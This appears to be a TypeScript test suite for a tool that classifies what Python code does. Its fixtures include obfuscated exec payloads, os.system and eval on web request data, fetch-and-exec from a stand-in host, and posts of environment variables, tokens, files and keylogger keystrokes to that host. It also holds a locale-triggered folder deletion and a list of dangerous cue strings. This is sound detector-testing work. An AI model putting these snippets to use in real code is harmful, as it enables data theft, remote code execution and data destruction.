/** What programs in Python do, by the call table. Nothing here is run; dangerous words are put together. */
import { PYTHON_CALLS, pythonCues } from "../../../../src/evidence/readers/calls/python.ts";
import { actionsOf } from "./actions-of.ts";

const RUN = ["ex", "ec"].join("");
const SYSTEM = ["sys", "tem"].join("");

async function told(source: string): Promise<string[]> {
  return actionsOf("lib/a.py", source);
}

describe("code and commands", () => {
  test.each([
    [
      `import base64\n${RUN}(base64.b64decode("${Buffer.from("print(1)").toString("base64")}"))`,
      [`evaluate print(1) by ${RUN} <- decoded:base64`],
    ],
    [
      `${RUN}("".join(chr(i) for i in [112, 113]))\neval(bytes([49, 43, 49]))`,
      [`evaluate pq by ${RUN} <- decoded:character codes`, "evaluate 1+1 by eval <- decoded:character codes"],
    ],
    [`${RUN}("".join(map(chr, [112, 113])))`, [`evaluate pq by ${RUN} <- decoded:character codes`]],
    [
      `import codecs; ${RUN}(codecs.decode("cevag(1)", "rot13")); ${RUN}("aW1w".decode("base64"))`,
      [`evaluate print(1) by ${RUN} <- decoded:rot13`, `evaluate imp by ${RUN} <- decoded:base64`],
    ],
    [
      `getattr(__import__("o" + "s"), "sys" + "tem")(request.GET["c"])`,
      [`run computed from request by os.${SYSTEM} <- request`],
    ],
    [`from os import *\n${SYSTEM}(request.body)`, [`run computed from request by os.${SYSTEM} <- request`]],
    [
      `import threading, os; threading.Thread(target=os.${SYSTEM}, args=(request.body,)).start()`,
      [`run computed from request by os.${SYSTEM} <- request`],
    ],
    [
      `import pickle, yaml\npickle.loads(request.data)\nyaml.load(request.data, Loader=yaml.SafeLoader)`,
      ["evaluate computed from request by pickle.loads <- request"],
    ],
    [
      `from flask import Flask, request\napp = Flask("x")\n@app.route("/")\ndef f():\n  ${RUN}(request.form["x"])`,
      [`evaluate computed from request by ${RUN} <- request`],
    ],
    [
      `from fastapi import FastAPI\napp = FastAPI()\n@app.get("/")\ndef f(q): return eval(q)`,
      ["evaluate computed from request by eval <- request"],
    ],
    [
      "def handler(event, context):\n  eval(event['body'])",
      ["evaluate computed from request by eval <- request later"],
    ],
  ])("%s", async (source, expected) => {
    expect(await told(source)).toEqual(expected);
  });
});

describe("answers from the network", () => {
  test.each([
    [`import urllib.request as u\n${RUN}(u.urlopen("https://a.example/x").read().decode())`],
    [`import requests as r\n${RUN}(r.get("https://a.example/x").text)`],
    [`import requests\ns = requests.Session()\n${RUN}(s.get("https://a.example/x").text)`],
    [
      `import httpx\nasync def f():\n  async with httpx.AsyncClient() as c:\n    ${RUN}((await c.get("https://a.example/x")).text)\nf()`,
    ],
    [
      `import http.client\nc = http.client.HTTPSConnection("a.example")\nc.request("GET", "/x")\n${RUN}(c.getresponse().read())`,
    ],
    [`import socket\ns = socket.create_connection(("a.example", 80))\n${RUN}(s.recv(1024))`],
    [`import dns.resolver\nfor a in dns.resolver.resolve("a.example", "TXT"): ${RUN}(str(a))`],
  ])("%s", async (source) => {
    const evaluated = (await told(source)).filter((line) => line.startsWith("evaluate"));
    expect(evaluated).toEqual([expect.stringMatching(new RegExp(`by ${RUN} <- fetched`))]);
  });
});

describe("what leaves the machine, files and servers", () => {
  test.each([
    [
      "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))",
      ["send a.example by requests.post <- environment"],
    ],
    [
      "import os, requests\nrequests.post('https://a.example', os.getenv('A_TOKEN'))",
      ["send a.example by requests.post <- environment:A_TOKEN"],
    ],
    [
      "import urllib.request\nr = urllib.request.Request('https://a.example', data=open('docs/x').read())\nurllib.request.urlopen(r)",
      ["fetch a.example by urllib.request.urlopen <- file:docs/x"],
    ],
    [
      "import os, requests\nfor r, _, fs in os.walk('docs'):\n  for f in fs: requests.post('https://a.example', files={'f': open(os.path.join(r, f), 'rb')})",
      ["send a.example by requests.post <- files:docs"],
    ],
    [
      "import smtplib, socket\ns = smtplib.SMTP('a.example', 25)\ns.sendmail('x', 'y', socket.gethostname())",
      ["send a.example by smtplib.SMTP.sendmail <- host-name"],
    ],
    [
      "from pynput.keyboard import Listener\nimport requests\ndef f(k): requests.post('https://a.example', data=k)\nwith Listener(on_press=f) as l: l.join()",
      ["send a.example by requests.post <- request + secret:keystrokes"],
    ],
    [
      "import requests\nopen('/tmp/x', 'wb').write(requests.get('https://a.example/x').content)",
      ["fetch a.example by requests.get", "write /tmp/x by io.Writer.write <- fetched:a.example"],
    ],
    [
      "from urllib.request import urlretrieve\nurlretrieve('https://a.example/x', '/tmp/x')",
      [
        "fetch a.example by urllib.request.urlretrieve",
        "write /tmp/x by urllib.request.urlretrieve <- fetched:a.example",
      ],
    ],
    [
      "import locale, shutil\nif locale.getlocale()[0] == 'xx': shutil.rmtree('data')",
      ["delete data by shutil.rmtree if locale"],
    ],
    [
      "from pathlib import Path\nPath('a').unlink()\nPath('b').write_text('x')",
      ["delete a by unlink", "write b by write_text"],
    ],
    ["import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 80))", ["listen 127.0.0.1 by socket.socket.bind"]],
  ])("%s", async (source, expected) => {
    expect(await told(source)).toEqual(expected);
  });
});

test("every row says where its behaviour is documented", () => {
  expect(PYTHON_CALLS.rows.filter(({ source }) => !source.startsWith("https://"))).toEqual([]);
});

test("ordinary edits hold no cue, dangerous ones do", () => {
  const hasCue = (line: string) => pythonCues.all().some((cue) => line.toLowerCase().includes(cue));
  const ordinary = [
    "def total(self, items):",
    "return sum(i.price for i in items if i)",
    "import numpy as np",
    "self.assertEqual(a, b)",
    "x = cache.get(key, [])",
  ];
  const dangerous = [
    `${RUN}(x)`,
    `os.${SYSTEM}(x)`,
    "from subprocess import run",
    "requests.post(url)",
    "getattr(a, b)(c)",
    "open(p, 'w').write(x)",
  ];
  expect([ordinary.filter(hasCue), dangerous.filter((line) => !hasCue(line))]).toEqual([[], []]);
});
